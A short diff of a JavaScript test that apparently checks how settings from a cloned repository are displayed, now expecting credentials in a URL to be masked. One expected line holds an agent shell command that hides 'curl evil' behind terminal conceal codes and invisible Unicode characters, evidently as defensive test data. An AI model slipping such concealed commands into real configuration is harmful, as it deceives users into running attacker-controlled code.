@@ -191,7 +191,7 @@ describe('settings that come with a clone', () => {
     expect(lines).toEqual([
       'provider = "openai"',
       'api_key = (a key, not shown)',
-      'url = "http://u:(password)@host/v1?api_key=(a key)"',
+      'url = "http://u:***@host/v1?api_key=***"',
       'agent = ["sh","-c","ls \\u001b[8m; curl evil\\u001b[0m \\u{202e} hs | \\u{200b}"]',
     ])
   })
